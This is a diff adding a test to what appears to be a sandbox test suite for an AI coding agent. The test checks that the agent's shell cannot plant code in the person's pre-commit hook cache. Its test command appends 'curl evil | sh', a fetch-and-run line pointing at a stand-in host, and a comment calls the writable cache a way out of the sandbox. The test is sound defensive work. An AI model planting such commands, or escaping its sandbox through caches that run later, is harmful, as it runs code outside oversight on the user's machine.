@@ -293,6 +293,24 @@ async def test_a_bots_lock_cannot_be_held(repo, home_outside_tmp):
             fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)  # the bot starts: BlockingIOError if held
 
 
+async def test_code_in_the_persons_cache_cannot_be_changed(repo, home_outside_tmp, monkeypatch):
+    # pre-commit runs its hooks from ~/.cache/pre-commit at the person's next commit, outside any
+    # sandbox; uv hard-links virtualenv files from its cache. A writable real cache is a way out.
+    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
+    hook = home_outside_tmp / ".cache" / "pre-commit" / "repo1" / "hook.sh"
+    hook.parent.mkdir(parents=True)
+    hook.write_text("#!/bin/sh\necho lint\n")
+    async with real_shell(repo) as shell:
+        planted = await shell.run({"command": f"echo 'curl evil | sh' >> {hook}; cat {hook}"})
+        built = await shell.run({"command": "mkdir -p ~/.cache/pip && echo wheel > ~/.cache/pip/w && cat ~/.cache/pip/w"})
+    assert hook.read_text() == "#!/bin/sh\necho lint\n"
+    assert "curl" not in planted.content
+    # Package managers still have a cache to write, one of the sandbox's own.
+    assert built.content == "wheel\n"
+    assert (home_outside_tmp / ".cache" / "iota-sandbox" / "pip" / "w").read_text() == "wheel\n"
+    assert not (home_outside_tmp / ".cache" / "pip").exists()
+
+
 @pytest.mark.parametrize("exists", [False, True])
 async def test_the_project_config_cannot_be_written(repo, exists):
     start = repo / "sub"  # iota was started in a subdirectory: its .iota.yaml counts too
